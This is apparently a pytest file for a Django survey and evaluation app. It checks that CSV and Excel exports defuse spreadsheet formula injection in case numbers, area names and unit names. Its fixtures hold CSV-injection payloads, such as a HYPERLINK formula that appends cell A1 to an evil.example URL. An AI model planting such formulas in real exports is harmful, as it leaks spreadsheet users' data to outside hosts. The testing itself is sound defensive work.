"""Spreadsheet formulas in the exports added in issues 13–15: a case number, an område and a unit
named ``=HYPERLINK(…)`` come out as text (a leading ``'``, frisat.cells) in both link exports (CSV
for Excel and for R/pandas) and in the results' CSV files; the evaluation's ``sager.xlsx`` holds no
case's own text and no formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from frisat.cells import FORMULA_START
from frisat.web.evaluations import services as evaluations
from frisat.web.organisations.models import Area, Municipality, Unit
from frisat.web.rounds import services as rounds
from tests.web.helpers import make_round, make_user
from tests.web.results.helpers import add_responses

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Klik her")'
EVIL_AREA = '=HYPERLINK("https://evil.example/","Ældre")'
EVIL_CASE = '=HYPERLINK("//evil.dk")'  # a case number has at most 30 characters
CASE = {"sagsnummer": EVIL_CASE, "henvendelse_dato": "01-03-2018", "beslutning_dato": "12-03-2018",
        "indsats_dato": "15-04-2018", "antal_aendringer": "1", "kontakter_moede": "2",
        "kontakter_hjemmebesoeg": "1", "kontakter_telefon": "4", "kontakter_skriftlig": "3"}


@pytest.fixture
def hostile(db):
    municipality = Municipality.objects.create(name="Rebild")
    area = Area.objects.create(municipality=municipality, name=EVIL_AREA)
    unit = Unit.objects.create(area=area, name=EVIL)
    admin = make_user("anna", municipality)
    client = Client()
    client.force_login(admin)
    return municipality, area, unit, admin, client


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _live(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a (negative) number."""
    return [c for c in cells
            if c[:1] in FORMULA_START and not c.replace(",", ".").lstrip("-").replace(".", "").isdigit()]


def test_a_case_number_like_a_formula_never_reaches_the_evaluations_workbook(hostile):
    municipality, area, _unit, admin, client = hostile
    evaluation = evaluations.create_evaluation(
        municipality=municipality, name="Forsøget", trial="Mindre dokumentation", area=area,
        dates={"foer": (dt.date(2018, 3, 1), dt.date(2018, 8, 31))})
    evaluations.save_case(evaluation.periods.get(code="foer").registration, CASE, admin)
    response = client.get(reverse("evaluations:download", args=[evaluation.pk, "sager.xlsx"]))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in FORMULA_START] == []
    # the workbook has the periods' figures, never a case's own text (so nothing of it to neutralise)
    assert cells and not any("evil" in str(c.value) for c in cells)


def test_the_link_exports_carry_no_live_formula(hostile):
    municipality, _area, unit, _admin, client = hostile
    round_ = make_round(municipality)
    rounds.add_respondent(round_, unit=unit, group="leder", email="a@x.dk")
    url = reverse("rounds:links", args=[round_.pk])
    for variant in ("excel", "data"):
        response = client.post(url, {"csv": variant, "reissue_all": "on"})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), variant
        cells = _csv_cells(response.content)
        assert _live(cells) == [] and "'" + EVIL in cells, variant


def test_the_results_excel_csv_carries_no_live_formula(hostile):
    municipality, _area, unit, _admin, client = hostile
    round_ = make_round(municipality, anonymous=False, min_n=5)
    add_responses(round_, unit, "medarbejder", 6, np.random.default_rng(3), comment=EVIL)
    for kind in ("summary-excel.csv", "besvarelser-excel.csv", "besvarelser.csv"):
        response = client.get(reverse("results:download", args=[round_.pk, kind]),
                              {"boelge": round_.pk, "grupper": "omraade"})
        assert response.status_code == 200, kind
        cells = _csv_cells(response.content)
        assert _live(cells) == [] and "'" + EVIL_AREA in cells, kind
